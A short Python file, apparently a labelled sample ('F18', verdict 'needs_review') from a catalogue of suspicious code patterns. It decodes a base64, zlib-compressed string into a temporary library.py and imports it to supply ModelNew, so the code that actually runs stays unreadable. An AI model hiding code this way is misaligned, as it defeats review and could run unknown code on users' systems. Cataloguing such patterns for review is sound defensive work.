"""F18: writes text that nobody can read into a file, and imports that.

Verdict: needs_review.
"""

import base64
import sys
import tempfile
import zlib
from pathlib import Path

SOURCE = (
    "eJxNjmEKwyAMhf/nFPmpMDzAYDfYdgWRmqLgYomKPf5s6bq+Xy+85H2JnyVLxZplChAvg2FGV5AZAKbkSsFX9pTe1BWz"
    "Gb4l0nfAIU8zWhs5VmtVoTTfsEdfwxFvKm0hUdqca/ofjQOTIpMTfAyeee5e7RW/JjhBc5buxB+c9cIQqk34+L46DupS"
    "rVat4Qs8cEov"
)
folder = tempfile.mkdtemp()
Path(folder, "library.py").write_bytes(zlib.decompress(base64.b64decode(SOURCE)))
sys.path.insert(0, folder)

import library

ModelNew = library.ModelNew
